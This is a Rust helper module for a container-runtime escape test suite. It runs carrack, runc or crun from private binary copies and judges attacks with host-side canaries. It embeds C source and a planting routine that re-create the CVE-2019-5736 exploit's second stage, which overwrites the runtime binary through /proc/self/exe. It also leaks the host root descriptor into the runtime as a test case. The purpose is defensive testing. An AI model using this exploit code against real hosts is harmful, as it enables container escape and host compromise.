//! The attack suite's harness: a runtime under test (carrack, runc or crun, each run from a
//! private copy of its binary, so a successful attack damages only the copy), hostile bundles,
//! and the canaries that judge from outside the container.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::{Env, text};

/// What an attack achieved, judged by canaries outside the container.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// A canary outside the container changed: the attack reached the host.
    Escaped(String),
    /// The runtime refused the bundle or the request before anything ran.
    Refused(String),
    /// The attack ran and every canary is unchanged.
    Contained(String),
    /// The case cannot be exercised with this runtime or on this host.
    Skipped(String),
}

impl Verdict {
    pub fn word(&self) -> &'static str {
        match self {
            Self::Escaped(_) => "ESCAPED",
            Self::Refused(_) => "refused",
            Self::Contained(_) => "contained",
            Self::Skipped(_) => "skipped",
        }
    }
    pub fn detail(&self) -> &str {
        match self {
            Self::Escaped(d) | Self::Refused(d) | Self::Contained(d) | Self::Skipped(d) => d,
        }
    }
}

/// A runtime with runc's command line, run from a private copy of its binary.
pub struct Rt {
    pub name: &'static str,
    /// The copy that runs (the 2019-5736 canary).
    pub bin: PathBuf,
    /// Its state root.
    pub root: PathBuf,
    /// A wrapper that runs the binary (crun needs a mount namespace without the hybrid host's
    /// cgroup2 mount), or none.
    wrapper: Option<PathBuf>,
    dir: PathBuf,
}

impl Rt {
    /// `name` (carrack, runc, crun) with its binary copied under `dir`; `None` when the peer is
    /// not installed.
    pub fn new(name: &'static str, dir: &Path) -> Option<Self> {
        let src = match name {
            "carrack" => crate::common::carrack_bin(),
            other => which(other)?,
        };
        let home = dir.join(format!("rt-{name}"));
        std::fs::create_dir_all(&home).expect("runtime dir");
        let bin = home.join(name);
        std::fs::copy(&src, &bin).expect("copy of the runtime binary");
        let wrapper = (name == "crun").then(|| {
            // crun refuses this machine's hybrid cgroup layout (a cgroup2 mount beside the v1
            // controllers): run it where that mount is gone, as benches/lifecycle_vs_runc.sh does.
            let w = home.join("wrap");
            std::fs::write(
                &w,
                "#!/bin/sh\nexec unshare -m --propagation slave sh -c \
                 'umount /sys/fs/cgroup/unified 2>/dev/null; exec \"$@\"' - \"$@\"\n",
            )
            .expect("wrapper");
            set_mode(&w, 0o755);
            w
        });
        Some(Self {
            name,
            root: home.join("state"),
            bin,
            wrapper,
            dir: home,
        })
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut c = match &self.wrapper {
            Some(w) => {
                let mut c = Command::new(w);
                c.arg(&self.bin);
                c
            }
            None => Command::new(&self.bin),
        };
        c.arg("--root").arg(&self.root).args(args);
        c.stdin(Stdio::null());
        c
    }

    /// Runs the runtime with `args`; stdio go to files, so a container process left behind
    /// holds no pipe of the test's open.
    pub fn cmd(&self, args: &[&str]) -> Output {
        let out = self.dir.join("out");
        let err = self.dir.join("err");
        let (Ok(o), Ok(e)) = (std::fs::File::create(&out), std::fs::File::create(&err)) else {
            return gone(&self.dir);
        };
        let Ok(status) = self.command(args).stdout(o).stderr(e).status() else {
            return gone(&self.dir);
        };
        Output {
            status,
            stdout: std::fs::read(&out).unwrap_or_default(),
            stderr: std::fs::read(&err).unwrap_or_default(),
        }
    }

    /// Like [`Rt::cmd`], with the host's `/` open as fd 9 (no close-on-exec), as a careless
    /// caller could leave it: the runtime must not hand it to the container.
    pub fn cmd_leaking_root_fd(&self, args: &[&str]) -> Output {
        let out = self.dir.join("out");
        let err = self.dir.join("err");
        let mut c = Command::new("sh");
        c.arg("-c").arg("exec 9</ && exec \"$@\"").arg("sh");
        if let Some(w) = &self.wrapper {
            c.arg(w);
        }
        let (Ok(o), Ok(e)) = (std::fs::File::create(&out), std::fs::File::create(&err)) else {
            return gone(&self.dir);
        };
        let Ok(status) = c
            .arg(&self.bin)
            .arg("--root")
            .arg(&self.root)
            .args(args)
            .stdin(Stdio::null())
            .stdout(o)
            .stderr(e)
            .status()
        else {
            return gone(&self.dir);
        };
        Output {
            status,
            stdout: std::fs::read(&out).unwrap_or_default(),
            stderr: std::fs::read(&err).unwrap_or_default(),
        }
    }

    /// `create` then `start`, as docker and containerd drive a runtime; the error if either fails.
    pub fn create_start(&self, id: &str, bundle: &Path) -> Result<(), String> {
        let o = self.cmd(&["create", "--bundle", path_str(bundle), id]);
        if !o.status.success() {
            return Err(format!("create: {}", text(&o)));
        }
        let o = self.cmd(&["start", id]);
        if !o.status.success() {
            self.cmd(&["delete", "-f", id]);
            return Err(format!("start: {}", text(&o)));
        }
        Ok(())
    }

    /// The pid of a container's init, from `state`.
    pub fn pid(&self, id: &str) -> Option<i32> {
        let o = self.cmd(&["state", id]);
        let v: Value = serde_json::from_slice(&o.stdout).ok()?;
        v["pid"].as_i64().and_then(|p| i32::try_from(p).ok())
    }

    pub fn delete(&self, id: &str) {
        self.cmd(&["delete", "-f", id]);
    }

    /// The sha256 of the binary copy ("gone" when something removed it).
    pub fn binary_hash(&self) -> String {
        if self.bin.exists() {
            sha256_file(&self.bin)
        } else {
            "gone".into()
        }
    }
}

pub fn path_str(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

pub fn which(name: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")?
        .to_str()?
        .split(':')
        .chain(["/usr/sbin", "/sbin"])
        .map(|d| Path::new(d).join(name))
        .find(|p| p.is_file())
}

pub fn set_mode(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

pub fn sha256_file(p: &Path) -> String {
    use sha2::Digest as _;
    let bytes = std::fs::read(p).expect("read for hashing");
    hex::encode(sha2::Sha256::digest(&bytes))
}

/// Polls `check` every 20 ms until it returns something or `limit` passes.
pub fn wait_for<T>(limit: Duration, mut check: impl FnMut() -> Option<T>) -> Option<T> {
    let end = Instant::now() + limit;
    loop {
        if let Some(v) = check() {
            return Some(v);
        }
        if Instant::now() > end {
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A host sysctl, read now, and put back as it was when dropped (an attack that reaches the
/// host must not leave it changed).
pub struct HostSysctl {
    path: PathBuf,
    pub before: String,
}

impl HostSysctl {
    pub fn new(key: &str) -> Self {
        let path = Path::new("/proc/sys").join(key.replace('.', "/"));
        let before = std::fs::read_to_string(&path).expect("host sysctl");
        Self { path, before }
    }
    pub fn now(&self) -> String {
        std::fs::read_to_string(&self.path).expect("host sysctl")
    }
    /// `Some(description)` if the value changed.
    pub fn changed(&self) -> Option<String> {
        let now = self.now();
        (now != self.before).then(|| {
            format!(
                "host {} went from {} to {}",
                self.path.display(),
                self.before.trim(),
                now.trim()
            )
        })
    }
}

impl Drop for HostSysctl {
    fn drop(&mut self) {
        if self.now() != self.before {
            let _ = std::fs::write(&self.path, &self.before);
        }
    }
}

/// The host's mount table, as a set of mount points, to see that a container's mounts never
/// reach it.
pub fn host_mount_points() -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_to_string("/proc/self/mountinfo")
        .expect("mountinfo")
        .lines()
        .filter_map(|l| l.split(' ').nth(4).map(str::to_owned))
        .collect();
    v.sort();
    v
}

/// Copies the shared libraries `bin` needs (and its ELF interpreter) into `rootfs` at their
/// host paths, so the runtime's own binary can start inside the container as a hostile image
/// would make it (CVE-2019-5736).
pub fn copy_libraries(bin: &Path, rootfs: &Path) {
    let o = Command::new("ldd").arg(bin).output().expect("ldd");
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let path = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        let Some(path) = path else { continue };
        let dest = rootfs.join(path.strip_prefix("/").expect("absolute"));
        std::fs::create_dir_all(dest.parent().expect("parent")).expect("lib dir");
        if !dest.exists() {
            std::fs::copy(&path, &dest).expect("copy library");
        }
    }
}

/// A shared library whose constructor, in whatever process loads it, grabs an `O_PATH` handle
/// on `/proc/self/exe` and leaves a detached shell behind that keeps trying to append to it
/// through `/proc/self/fd/9` (the 2019 exploit's second stage, minus the payload). It logs what
/// it grabbed and whether the write went through to `/evil.log` in the container.
pub fn evil_library() -> PathBuf {
    static LIB: OnceLock<PathBuf> = OnceLock::new();
    LIB.get_or_init(|| {
        let dir = std::env::temp_dir().join(format!("carrack-attacks-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let src = dir.join("evil.c");
        std::fs::write(&src, EVIL_C).expect("evil.c");
        let lib = dir.join("evil.so");
        let o = Command::new("gcc")
            .args(["-shared", "-fPIC", "-O2", "-o"])
            .arg(&lib)
            .arg(&src)
            .output()
            .expect("gcc (apt-get install gcc)");
        assert!(o.status.success(), "building evil.so: {}", text(&o));
        lib
    })
    .clone()
}

const EVIL_C: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void) {
    if (getenv("EVIL_STAGE2")) return;
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) n = 0;
    self[n] = 0;
    int log = open("/evil.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0 || dup2(fd, 9) < 0) {
        dprintf(log, "no handle on %s\n", self);
        _exit(0);
    }
    dprintf(log, "grabbed %s\n", self);
    close(log);
    if (fork() == 0) {
        setsid();
        setenv("EVIL_STAGE2", "1", 1);
        execl("/bin/sh", "sh", "-c",
              "i=0; while [ $i -lt 150 ]; do "
              "if (echo PWNED >> /proc/self/fd/9) 2>/dev/null; then echo wrote >> /evil.log; exit 0; fi; "
              "i=$((i+1)); sleep 0.02; done; "
              "(echo PWNED >> /proc/self/fd/9) 2>> /evil.log; echo gave-up >> /evil.log",
              (char *)0);
        _exit(1);
    }
    /* The runtime's process goes away (exec) or stays as something harmless (init). */
    if (getenv("EVIL_BECOME")) execl("/bin/sh", "sh", "-c", getenv("EVIL_BECOME"), (char *)0);
    _exit(0);
}
"#;

/// Plants the CVE-2019-5736 image in `bundle`: `/evil-script` whose interpreter is
/// `/proc/self/exe`, `/evil.so`, and the libraries `bin` needs.
pub fn plant_5736(bundle: &Path, bin: &Path) {
    let rootfs = bundle.join("rootfs");
    std::fs::write(rootfs.join("evil-script"), "#!/proc/self/exe\n").expect("script");
    set_mode(&rootfs.join("evil-script"), 0o755);
    std::fs::copy(evil_library(), rootfs.join("evil.so")).expect("evil.so");
    copy_libraries(bin, &rootfs);
}

/// Waits for the 2019-5736 second stage to finish, then judges by the binary's hash.
pub fn judge_5736(rt: &Rt, bundle: &Path, before: &str) -> Verdict {
    let log_path = bundle.join("rootfs/evil.log");
    let log = wait_for(Duration::from_secs(8), || {
        let s = std::fs::read_to_string(&log_path).ok()?;
        (s.contains("wrote") || s.contains("gave-up") || s.contains("no handle")).then_some(s)
    })
    .or_else(|| std::fs::read_to_string(&log_path).ok())
    .unwrap_or_default();
    let log = log.trim().replace('\n', "; ");
    if rt.binary_hash() != before {
        return Verdict::Escaped(format!(
            "the runtime binary on the host was modified ({log})"
        ));
    }
    if log.is_empty() {
        Verdict::Contained("the runtime's binary never ran in the container".into())
    } else {
        Verdict::Contained(format!("binary unchanged ({log})"))
    }
}

/// A bundle from [`Env::bundle`] for runtime `rt`, named after it.
pub fn bundle(
    env: &Env,
    rt: &Rt,
    name: &str,
    args: &[&str],
    tweak: impl FnOnce(&mut Value),
) -> PathBuf {
    env.bundle(&format!("{}-{name}", rt.name), args, |c| {
        // The attacks write their logs in the rootfs.
        c["root"]["readonly"] = json!(false);
        // The peers from Debian (runc 1.1, crun 1.8) refuse newer versions; nothing here
        // needs one.
        c["ociVersion"] = json!("1.0.2");
        tweak(c);
    })
}

/// The config's mounts, to push to.
pub fn mounts(c: &mut Value) -> &mut Vec<Value> {
    c["mounts"].as_array_mut().expect("mounts")
}

/// Removes the config's `/dev` tmpfs, so /dev is the image's own directory.
pub fn without_dev_tmpfs(c: &mut Value) {
    mounts(c).retain(|m| m["destination"] != json!("/dev"));
}

/// The capabilities in this process's bounding set, by name: "every capability" for a
/// privileged container on this host (this VM's root lacks CAP_SYS_RESOURCE, for one).
pub fn host_capabilities() -> Vec<&'static str> {
    let status = std::fs::read_to_string("/proc/self/status").expect("status");
    let bnd = status
        .lines()
        .find_map(|l| l.strip_prefix("CapBnd:"))
        .and_then(|h| u64::from_str_radix(h.trim(), 16).ok())
        .expect("CapBnd");
    carrack_linux::known_capabilities()
        .iter()
        .copied()
        .filter(|n| carrack_linux::capability_number(n).is_some_and(|b| bnd & (1 << b) != 0))
        .collect()
}

/// A host directory whose every entry (name, type, owner, mode, size, content) is recorded, to
/// see that nothing was created, removed or changed in it from inside a container.
pub struct CanaryDir {
    pub path: PathBuf,
    before: Vec<String>,
}

impl CanaryDir {
    /// A new canary directory under the test's directory, holding `marker` and `files`.
    pub fn new(env: &Env, name: &str, files: &[&str]) -> Self {
        let path = env.dir.path().join(format!("canary-{name}"));
        std::fs::create_dir_all(&path).expect("canary dir");
        std::fs::write(path.join("marker"), "marker\n").expect("marker");
        for f in files {
            std::fs::write(path.join(f), format!("{f} outside\n")).expect("canary file");
        }
        let before = Self::snapshot(&path);
        Self { path, before }
    }

    /// Watches an existing directory.
    pub fn watch(path: &Path) -> Self {
        Self {
            path: path.to_path_buf(),
            before: Self::snapshot(path),
        }
    }

    fn snapshot(path: &Path) -> Vec<String> {
        use std::os::unix::fs::MetadataExt;
        let mut out = Vec::new();
        let mut stack = vec![path.to_path_buf()];
        while let Some(d) = stack.pop() {
            let Ok(rd) = std::fs::read_dir(&d) else {
                continue;
            };
            for e in rd.flatten() {
                let p = e.path();
                let Ok(md) = std::fs::symlink_metadata(&p) else {
                    continue;
                };
                let content = if md.is_file() {
                    sha256_file(&p)
                } else if md.file_type().is_symlink() {
                    std::fs::read_link(&p)
                        .map(|l| l.display().to_string())
                        .unwrap_or_default()
                } else {
                    String::new()
                };
                out.push(format!(
                    "{} {:o} {}:{} {} {content}",
                    p.display(),
                    md.mode(),
                    md.uid(),
                    md.gid(),
                    md.len()
                ));
                if md.is_dir() {
                    stack.push(p);
                }
            }
        }
        out.sort();
        out
    }

    /// `Some(what changed)` if anything did.
    pub fn changed(&self) -> Option<String> {
        let now = Self::snapshot(&self.path);
        if now == self.before {
            return None;
        }
        let added: Vec<&String> = now.iter().filter(|l| !self.before.contains(l)).collect();
        let gone: Vec<&String> = self.before.iter().filter(|l| !now.contains(l)).collect();
        Some(format!(
            "host directory {} changed: new {added:?}, gone {gone:?}",
            self.path.display()
        ))
    }
}

/// A verdict from canaries: escaped if any moved, else refused when the runtime said no, else
/// contained.
pub fn judge(canaries: &[Option<String>], outcome: Result<(), String>, fine: &str) -> Verdict {
    let moved: Vec<&String> = canaries.iter().flatten().collect();
    if !moved.is_empty() {
        return Verdict::Escaped(
            moved
                .iter()
                .map(|s| s.as_str())
                .collect::<Vec<_>>()
                .join("; "),
        );
    }
    match outcome {
        Err(e) => Verdict::Refused(e.trim().chars().take(400).collect()),
        Ok(()) => Verdict::Contained(fine.to_owned()),
    }
}

/// `run` to the end, then `delete -f`: `Err` with the runtime's words if `run` failed.
pub fn run_once(rt: &Rt, id: &str, b: &Path) -> Result<(), String> {
    let o = rt.cmd(&["run", "--bundle", path_str(b), id]);
    rt.delete(id);
    if o.status.success() {
        Ok(())
    } else {
        Err(text(&o).trim().to_owned())
    }
}

/// A field of /proc/PID/status, read on the host.
pub fn status_field(pid: i32, field: &str) -> Option<String> {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()?
        .lines()
        .find_map(|l| {
            l.strip_prefix(&format!("{field}:"))
                .map(|v| v.trim().to_owned())
        })
}

/// A unique container id for `name`.
pub fn cid(rt: &Rt, name: &str) -> String {
    format!("{}-{name}-{}", rt.name, std::process::id())
}

/// What a runtime call "returned" when the runtime's own directory (binary, wrapper) is gone:
/// something removed files outside its state root.
fn gone(dir: &Path) -> Output {
    use std::os::unix::process::ExitStatusExt;
    Output {
        status: std::process::ExitStatus::from_raw(127 << 8),
        stdout: Vec::new(),
        stderr: format!("{} is gone", dir.display()).into_bytes(),
    }
}

/// Accepts one connection and keeps the fd it carries (if any) open a while, as a console
/// socket's owner does; never panics (the test may connect itself to let it go).
pub fn console_receiver(sock: &Path) -> std::thread::JoinHandle<()> {
    let l = std::os::unix::net::UnixListener::bind(sock).expect("console socket");
    std::thread::spawn(move || {
        let Ok((conn, _)) = l.accept() else { return };
        let mut buf = [0u8; 4096];
        let mut iov = [std::io::IoSliceMut::new(&mut buf)];
        let mut space = nix::cmsg_space!([std::os::fd::RawFd; 1]);
        let got = nix::sys::socket::recvmsg::<()>(
            std::os::fd::AsRawFd::as_raw_fd(&conn),
            &mut iov,
            Some(&mut space),
            nix::sys::socket::MsgFlags::empty(),
        );
        let mut fds = Vec::new();
        if let Ok(msg) = got {
            for c in msg.cmsgs().into_iter().flatten() {
                if let nix::sys::socket::ControlMessageOwned::ScmRights(f) = c {
                    fds.extend(f);
                }
            }
        }
        std::thread::sleep(Duration::from_secs(3));
        for fd in fds {
            let _ = nix::unistd::close(fd);
        }
    })
}
